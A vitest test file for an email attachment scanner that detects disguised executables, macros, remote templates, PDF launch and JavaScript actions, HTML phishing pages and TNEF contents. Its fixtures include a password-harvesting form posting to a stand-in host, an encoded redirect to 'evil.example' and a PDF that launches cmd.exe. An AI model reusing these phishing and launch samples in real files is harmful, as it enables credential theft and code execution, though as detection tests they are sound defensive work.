import { describe, expect, it } from 'vitest';
import { attachmentFindings, detectType, inspectAttachment, nameFlags, pdfKeys, readTnef, readZipDirectory, type AttachmentInput } from './attachments.js';
import { FindingSet } from './findings.js';
import { buildOle, buildTnef, buildZip, FAKE_EXE } from './testing.js';

const att = (filename: string, content: Uint8Array | string, mimeType = 'application/octet-stream'): AttachmentInput => ({
  filename,
  mimeType,
  disposition: 'attachment',
  content: typeof content === 'string' ? Buffer.from(content) : content,
  path: [],
});

function findings(a: AttachmentInput): string[] {
  const fs = new FindingSet({});
  attachmentFindings(inspectAttachment(a, 1000).info, fs);
  return fs.list().map((f) => f.id);
}

describe('detectType', () => {
  it('knows a file by its bytes, not its name', () => {
    expect(detectType(FAKE_EXE).family).toBe('pe');
    expect(detectType(Buffer.from('%PDF-1.7\n')).family).toBe('pdf');
    expect(detectType(buildZip({ 'a.txt': 'x' })).family).toBe('zip');
    expect(detectType(buildOle({ WordDocument: 'x' })).family).toBe('ole');
    expect(detectType(Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0])).family).toBe('lnk');
    expect(detectType(Buffer.from('<!DOCTYPE html><html><body><form>')).family).toBe('html');
    expect(detectType(Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>')).family).toBe('svg');
    const iso = Buffer.alloc(0x8001 + 10);
    iso.write('CD001', 0x8001, 'latin1');
    expect(detectType(iso).family).toBe('iso');
    expect(detectType(Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10])).family).toBe('png');
    expect(detectType(Buffer.from('plain words\n')).family).toBe('text');
    expect(detectType(Buffer.from([0, 1, 2, 3, 250, 251])).family).toBe('unknown');
    expect(detectType(new Uint8Array(0)).family).toBe('text');
  });
});

describe('nameFlags', () => {
  it('flags dangerous extensions, decoy double extensions and right-to-left overrides', () => {
    expect(nameFlags('invoice.pdf.exe')).toEqual(expect.arrayContaining(['executable', 'double-extension']));
    expect(nameFlags('invoice.pdf                      .js')).toEqual(expect.arrayContaining(['script', 'double-extension']));
    expect(nameFlags('scan.PDF.html')).toEqual(expect.arrayContaining(['html', 'double-extension']));
    expect(nameFlags('photo_\u202Egpj.exe')).toEqual(expect.arrayContaining(['rtlo', 'executable']));
    expect(nameFlags('shipping.lnk')).toEqual(['shortcut']);
    expect(nameFlags('setup.iso')).toEqual(['disk-image']);
    expect(nameFlags('report.2024.final.pdf')).toEqual([]);
    expect(nameFlags('budget.xlsm')).toEqual(['macro-enabled']);
  });
});

describe('inspectAttachment', () => {
  it('hashes and sizes every attachment', () => {
    const r = inspectAttachment(att('a.txt', 'hello'), 10).info;
    expect(r).toMatchObject({
      size: 5,
      md5: '5d41402abc4b2a76b9719d911017c592',
      sha1: 'aaf4c61ddcc5e8a2dabede0f3b482cd9aea9434d',
      sha256: '2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824',
      detectedType: 'text',
    });
  });

  it('catches an executable dressed as a PDF', () => {
    expect(findings(att('statement.pdf', FAKE_EXE, 'application/pdf'))).toEqual(['attachment.executable', 'attachment.type-mismatch']);
  });

  it('lists zip entries from the central directory, with the encrypted flag and executables inside', () => {
    const zip = buildZip({ 'docs/readme.txt': 'read me', 'docs/invoice.pdf.exe': FAKE_EXE }, ['docs/invoice.pdf.exe']);
    const r = inspectAttachment(att('invoice.zip', zip, 'application/zip'), 1000).info;
    expect(r.entries).toEqual([
      { name: 'docs/readme.txt', size: 7, compressedSize: expect.any(Number), encrypted: false, flags: [] },
      { name: 'docs/invoice.pdf.exe', size: FAKE_EXE.length, compressedSize: expect.any(Number), encrypted: true, flags: expect.arrayContaining(['executable', 'double-extension', 'encrypted']) },
    ]);
    expect(findings(att('invoice.zip', zip, 'application/zip'))).toEqual(['attachment.archive.executable', 'attachment.double-extension', 'attachment.archive.encrypted']);
  });

  it('stops listing at the limit and says how many were left out', () => {
    const entries: Record<string, string> = {};
    for (let i = 0; i < 30; i++) entries[`f${i}.txt`] = 'x';
    const r = inspectAttachment(att('many.zip', buildZip(entries)), 10).info;
    expect(r.entries).toHaveLength(10);
    expect(r.entriesOmitted).toBe(20);
  });

  it('finds VBA macros in OOXML (vbaProject.bin) and in OLE documents (VBA storage)', () => {
    const docm = buildZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', 'word/vbaProject.bin': buildOle({ 'VBA/dir': 'x' }) });
    expect(findings(att('report.docm', docm))).toEqual(['attachment.macro']);
    // renamed: same content, image name → the mismatch is reported too
    expect(findings(att('photo.jpg', docm, 'image/jpeg'))).toEqual(['attachment.macro', 'attachment.type-mismatch']);
    const doc = buildOle({ WordDocument: 'x', 'Macros/VBA/dir': 'x', 'Macros/VBA/ThisDocument': 'x' });
    const info = inspectAttachment(att('old.doc', doc, 'application/msword'), 10).info;
    expect(info.detectedType).toBe('Word 97-2003 document (OLE)');
    expect(info.flags).toContain('macro');
    expect(findings(att('locked.docx', buildOle({ EncryptedPackage: 'x', EncryptionInfo: 'y' })))).toEqual(['attachment.office-encrypted']);
  });

  it('finds a remote template in an OOXML document', () => {
    const rels = '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.3/t.dotm" TargetMode="External"/></Relationships>';
    const docx = buildZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', 'word/_rels/settings.xml.rels': rels });
    const fs = new FindingSet({});
    attachmentFindings(inspectAttachment(att('cv.docx', docx), 100).info, fs);
    expect(fs.list()[0]).toMatchObject({ id: 'attachment.office.remote-template', message: expect.stringContaining('http://198.51.100.3/t.dotm') });
  });

  it('reads PDF action keys, hex-escaped names included, and collects the links', () => {
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R /Names << /J#61vaScript 3 0 R >> >>\n2 0 obj << /S /Launch /F (cmd.exe) >>\n4 0 obj << /A << /S /URI /URI (https://login.example.net/a\\)b) >> >>\n%%EOF');
    expect(pdfKeys(pdf).keys).toEqual(new Set(['OpenAction', 'JavaScript', 'Launch', 'URI']));
    const r = inspectAttachment(att('doc.pdf', pdf, 'application/pdf'), 10);
    expect(r.urls).toEqual(['https://login.example.net/a)b']);
    expect(findings(att('doc.pdf', pdf, 'application/pdf'))).toEqual(['attachment.pdf.launch', 'attachment.pdf.javascript', 'attachment.pdf.openaction', 'attachment.pdf.link']);
  });

  it('looks inside HTML attachments for forms and script', () => {
    const page = '<html><body><form action="https://collect.example.net/p" method="post"><input type="password" name="p"></form><script>window.location=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=")</script></body></html>';
    expect(findings(att('Remittance.htm', page, 'text/html'))).toEqual(['attachment.html.form', 'attachment.html.script', 'attachment.html']);
    expect(inspectAttachment(att('Remittance.htm', page, 'text/html'), 10).urls).toEqual(['https://collect.example.net/p']);
  });

  it('flags disk images and shortcuts', () => {
    const iso = Buffer.alloc(0x8001 + 10);
    iso.write('CD001', 0x8001, 'latin1');
    expect(findings(att('delivery.img', iso))).toEqual(['attachment.disk-image']);
    expect(findings(att('doc.lnk', Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0])))).toEqual(['attachment.shortcut']);
  });

  it('opens TNEF (winmail.dat) and hands its files on as attachments of their own', () => {
    const tnef = buildTnef([{ name: 'payload.scr', data: FAKE_EXE }, { name: 'notes.txt', data: Buffer.from('hi') }]);
    expect(readTnef(tnef).map((f) => [f.name, f.data.length])).toEqual([
      ['payload.scr', FAKE_EXE.length],
      ['notes.txt', 2],
    ]);
    const r = inspectAttachment(att('winmail.dat', tnef, 'application/ms-tnef'), 10);
    expect(r.info.flags).toEqual(['tnef']);
    expect(r.inner.map((i) => [i.filename, i.path])).toEqual([
      ['payload.scr', ['winmail.dat']],
      ['notes.txt', ['winmail.dat']],
    ]);
  });

  it('survives damaged containers: a truncated zip, junk OLE, a zip directory pointing past the end', () => {
    const zip = buildZip({ 'a.exe': FAKE_EXE });
    expect(inspectAttachment(att('cut.zip', zip.subarray(0, 40)), 10).info.flags).toContain('unreadable');
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600, 0xff)]);
    expect(inspectAttachment(att('junk.doc', ole), 10).info.flags).toContain('unreadable');
    const bad = Buffer.from(zip);
    bad.writeUInt32LE(0xfffffff0, bad.length - 6); // central directory offset far past the end
    expect(() => readZipDirectory(bad, 10)).not.toThrow();
  });
});
